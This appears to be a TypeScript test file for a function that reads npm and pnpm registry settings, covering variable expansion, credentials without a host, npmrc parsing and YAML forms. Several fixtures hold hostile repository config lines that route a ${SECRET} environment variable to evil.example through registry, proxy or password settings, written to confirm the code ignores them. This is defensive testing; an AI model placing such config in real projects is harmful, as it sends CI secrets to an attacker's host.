import assert from 'node:assert/strict'
import { join } from 'node:path'
import { describe, it, type TestContext } from 'node:test'
import { type RegistrySettings, readRegistrySettings } from '../../src/evidence/settings.ts'
import { folder } from './support.ts'

const PUBLIC = 'https://registry.npmjs.org/'
const TOKEN = '//host.example/:_authToken'

type Files = Readonly<Record<string, string>>

function read(t: TestContext, files: Files, env: Readonly<Record<string, string | undefined>> = {}): RegistrySettings {
  const root = folder(t, files)
  return readRegistrySettings(join(root, 'project'), { env, home: join(root, 'home'), platform: 'linux' })
}

describe('variables', () => {
  const env = { SECRET: 's3cret', HOST: 'host.example', EMPTY: '' }

  for (const file of ['home/.npmrc', 'home/.config/pnpm/rc', 'home/.config/pnpm/auth.ini']) {
    it(`are expanded in ${file}, in names and values`, (t) => {
      const { options, registries } = read(
        t,
        { [file]: `//\${HOST}/:_authToken=\${SECRET}\nregistry=https://\${HOST}/` },
        env,
      )
      assert.equal(options[TOKEN], 's3cret')
      assert.equal(registries.default, 'https://host.example/')
    })
  }

  it('are expanded in config.yaml', (t) => {
    const yaml = `registries: { default: 'https://\${HOST}/' }\n_auth: { 'https://host.example/': { '@': { authToken: '\${SECRET}' } } }`
    const { options, registries } = read(t, { 'home/.config/pnpm/config.yaml': yaml }, env)
    assert.equal(options[TOKEN], 's3cret')
    assert.equal(registries.default, 'https://host.example/')
  })

  const values: Readonly<Record<string, string | undefined>> = {
    '${SECRET}': 's3cret',
    'a-${SECRET}-b': 'a-s3cret-b',
    '${SECRET}${HOST}': 's3crethost.example',
    '${EMPTY}': '',
    '${MISSING}': undefined,
    'a${MISSING}b': undefined,
    '${MISSING-else}': 'else',
    '${MISSING:-else}': 'else',
    '${EMPTY-else}': '',
    '${EMPTY:-else}': 'else',
    '${SECRET?}': 's3cret',
    '${MISSING?}': '',
    '\\${SECRET}': `\${SECRET}`,
    $SECRET: '$SECRET',
    '${toString}': undefined,
  }
  for (const [written, value] of Object.entries(values)) {
    it(`${written} is ${value ?? 'left out, the setting as a whole'}`, (t) => {
      assert.equal(read(t, { 'home/.npmrc': `${TOKEN}=${written}` }, env).options[TOKEN], value)
    })
  }

  const repository: Readonly<Record<string, Files>> = {
    'a registry': { 'project/.npmrc': `registry=https://evil.example/\${SECRET}/` },
    'a registry of a scope': { 'project/.npmrc': `@acme:registry=https://evil.example/\${SECRET}/` },
    'a token': { 'project/.npmrc': `//host.example/:_authToken=\${SECRET}` },
    'a token for a host': { 'project/.npmrc': `//\${HOST}/:_authToken=x` },
    'a token without host': { 'project/.npmrc': `registry=https://evil.example/\n_authToken=\${SECRET}` },
    'a password': { 'project/.npmrc': `//evil.example/:_password=\${SECRET}\n//evil.example/:username=x` },
    'a proxy': { 'project/.npmrc': `https-proxy=http://\${SECRET}.evil.example/` },
    'a variable that may be missing': { 'project/.npmrc': `registry=https://evil.example/\${SECRET?}/` },
    'a variable with another value': { 'project/.npmrc': `registry=https://evil.example/\${SECRET:-x}/` },
    'registries of pnpm-workspace.yaml': {
      'project/pnpm-workspace.yaml': `registries: { default: 'https://evil.example/\${SECRET}/', '@acme': 'https://evil.example/\${SECRET}/' }`,
    },
    'registries by URL of pnpm-workspace.yaml': {
      'project/pnpm-workspace.yaml': `registries: { 'https://evil.example/\${SECRET}/': { scopes: ['@', '@acme'] } }`,
    },
    'the registry of pnpm-workspace.yaml': {
      'project/pnpm-workspace.yaml': `registry: https://evil.example/\${SECRET}/`,
    },
    'the proxy of pnpm-workspace.yaml': {
      'project/pnpm-workspace.yaml': `httpsProxy: http://\${SECRET}.evil.example/`,
    },
  }
  for (const [what, files] of Object.entries(repository)) {
    it(`are no reason to follow a repository: ${what}. A pull request could have a secret of CI sent to its own host`, (t) => {
      const { options, registries } = read(t, files, env)
      const all = JSON.stringify([options, registries])
      assert.doesNotMatch(all, /s3cret/)
      assert.doesNotMatch(all, /\$\{/)
      assert.equal(registries.default, what === 'a token without host' ? 'https://evil.example/' : PUBLIC)
      assert.equal(registries['@acme'], undefined)
    })
  }

  it('in a repository do not take the place of what the user has set', (t) => {
    const files = { 'home/.npmrc': `${TOKEN}=mine\nregistry=https://mine.example/` }
    const { options, registries } = read(
      t,
      { ...files, 'project/.npmrc': `${TOKEN}=\${SECRET}\nregistry=\${HOST}` },
      env,
    )
    assert.equal(options[TOKEN], 'mine')
    assert.equal(registries.default, 'https://mine.example/')
  })

  it('without braces, and settings without variables, count also in a repository', (t) => {
    const { options, registries } = read(
      t,
      { 'project/.npmrc': `${TOKEN}=pa$$word\nregistry=https://own.example/` },
      env,
    )
    assert.equal(options[TOKEN], 'pa$$word')
    assert.equal(registries.default, 'https://own.example/')
  })
})

describe('credentials without a host', () => {
  it('belong to the registry of their own file', (t) => {
    const { options } = read(t, {
      'home/.npmrc': 'registry=https://host.example/npm\n_authToken=T\nusername=u\n_password=p',
    })
    assert.equal(options['//host.example/npm/:_authToken'], 'T')
    assert.equal(options['//host.example/npm/:username'], 'u')
    assert.equal(options['//host.example/npm/:_password'], 'p')
    assert.equal(options._authToken, undefined)
  })

  it('belong to the public registry where their file names none', (t) => {
    assert.equal(read(t, { 'home/.npmrc': '_authToken=T' }).options['//registry.npmjs.org/:_authToken'], 'T')
  })

  it('are not carried off to a registry that a repository names', (t) => {
    const { options, registries } = read(t, {
      'home/.npmrc': '_authToken=T',
      'project/.npmrc': 'registry=https://evil.example/',
    })
    assert.equal(registries.default, 'https://evil.example/')
    const owners = Object.entries(options).filter(([, value]) => value === 'T')
    assert.deepEqual(owners, [['//registry.npmjs.org/:_authToken', 'T']])
  })

  it('do not take the place of those with one', (t) => {
    for (const lines of [
      ['//host.example/:_authToken=own', '_authToken=T'],
      ['_authToken=T', '//host.example/:_authToken=own'],
    ]) {
      const { options } = read(t, { 'home/.npmrc': `registry=https://host.example/\n${lines.join('\n')}` })
      assert.equal(options[TOKEN], 'own')
    }
  })

  it('belong to nobody where the registry of their file is no URL', (t) => {
    const { options } = read(t, { 'home/.npmrc': 'registry=nonsense\n_authToken=T' })
    assert.deepEqual(
      Object.values(options).filter((value) => value === 'T'),
      [],
    )
  })
})

describe('an npmrc', () => {
  it('may begin with a byte order mark', (t) => {
    assert.equal(
      read(t, { 'home/.npmrc': '\uFEFFregistry=https://a.example/' }).registries.default,
      'https://a.example/',
    )
  })

  it('has comments, quotes and Windows line ends', (t) => {
    const { options, registries } = read(t, {
      'home/.npmrc': '; a\r\n# b\r\nregistry = "https://a.example/"\r\n//host.example/:_authToken = "T"\r\n',
    })
    assert.equal(registries.default, 'https://a.example/')
    assert.equal(options[TOKEN], 'T')
  })

  it('has sections of other tools, which say nothing', (t) => {
    const { registries } = read(t, { 'home/.npmrc': 'registry=https://a.example/\n[x]\nregistry=https://b.example/\n' })
    assert.equal(registries.default, 'https://a.example/')
  })

  it('names a cafile relative to itself; one that is not there is none', (t) => {
    const files = { 'home/.npmrc': 'cafile=certs/ca.pem', 'home/certs/ca.pem': 'PEM' }
    assert.equal(read(t, files).options.ca, 'PEM')
    assert.equal(read(t, { 'home/.npmrc': 'cafile=certs/none.pem' }).options.ca, undefined)
    assert.equal(read(t, { ...files, 'project/.npmrc': 'ca=INLINE' }).options.ca, 'INLINE')
  })
})

describe('YAML', () => {
  const forms: Readonly<Record<string, string>> = {
    'scope: URL': "registries: { default: 'https://all.example', '@acme': 'https://acme.example' }",
    'URL: {scopes}':
      "registries: { 'https://all.example': { scopes: ['@'] }, 'https://acme.example': { scopes: ['@acme'] } }",
    'a byte order mark': "\uFEFFregistries: { default: 'https://all.example', '@acme': 'https://acme.example' }",
    'registry beside registries':
      "registry: https://all.example\nregistries: { default: 'https://weaker.example', '@acme': 'https://acme.example' }",
  }
  for (const file of ['home/.config/pnpm/config.yaml', 'project/pnpm-workspace.yaml']) {
    for (const [form, yaml] of Object.entries(forms)) {
      it(`${file}: ${form}`, (t) => {
        const { registries } = read(t, { [file]: yaml })
        assert.equal(registries.default, 'https://all.example/')
        assert.equal(registries['@acme'], 'https://acme.example/')
      })
    }

    it(`${file}: strictSsl and proxies`, (t) => {
      const { options } = read(t, { [file]: 'strictSsl: false\nhttpsProxy: http://p.example/\nnoProxy: a.example' })
      assert.equal(options['strict-ssl'], false)
      assert.equal(options['https-proxy'], 'http://p.example/')
      assert.equal(options['http-proxy'], 'http://p.example/')
      assert.equal(options['no-proxy'], 'a.example')
    })
  }

  it('in a repository holds no credentials', (t) => {
    const { options } = read(t, {
      'project/pnpm-workspace.yaml':
        "_auth: { 'https://host.example/': { '@': { authToken: T } } }\n'//host.example/:_authToken': T",
    })
    assert.equal(options[TOKEN], undefined)
  })
})
